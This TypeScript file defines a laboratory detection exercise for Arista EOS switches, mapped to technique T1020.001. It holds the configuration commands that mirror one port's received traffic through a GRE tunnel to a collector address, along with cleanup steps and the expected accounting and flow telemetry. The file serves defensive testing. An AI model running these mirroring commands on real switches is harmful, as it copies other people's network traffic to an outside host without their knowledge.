/** How somebody sees whether mirrors of EOS are noticed, on a switch of a laboratory. */
import type { Exercise } from '../../../facts/log-content/exercise.ts'

export const exercises: readonly Exercise[] = [
  {
    guid: 'c2f4a6d8-1b3e-4f57-8a90-6d2c4e8f0b13',
    name: 'Arista EOS mirror into a GRE tunnel on a switch of a laboratory',
    description: 'Copies what one port receives to an address of your own, by GRE.',
    technique: 'T1020.001',
    platforms: ['network'],
    arguments: {
      session: { description: 'Name of a session that is free', type: 'string', default: 'EXERCISE' },
      port: { description: 'Port whose traffic is copied', type: 'string', default: 'Ethernet1' },
      collector: {
        description: 'Address of your own that receives the copies',
        type: 'string',
        default: '203.0.113.66',
      },
      origin: { description: 'Address of the switch that the copies come from', type: 'string', default: '192.0.2.1' },
    },
    prerequisites: [],
    executor: 'manual',
    needsElevation: true,
    commands: [
      'On a switch of a laboratory that accounts commands (aaa accounting commands all default start-stop logging), type:',
      'configure terminal',
      'monitor session #{session} source #{port} rx',
      'monitor session #{session} destination tunnel mode gre source #{origin} destination #{collector}',
      'end',
      'Read the log of the switch at your collector.',
    ],
    cleanup: [
      'configure terminal',
      'no monitor session #{session}',
      'end',
      'show monitor session must not name #{session}.',
    ],
    acts: ['session-set', 'session-removed'],
    telemetry: [
      'Each command is one %ACCOUNTING-6-CMD with account, line and address.',
      'Flow records of the way out have GRE (protocol 47) from the origin to the collector.',
    ],
  },
]
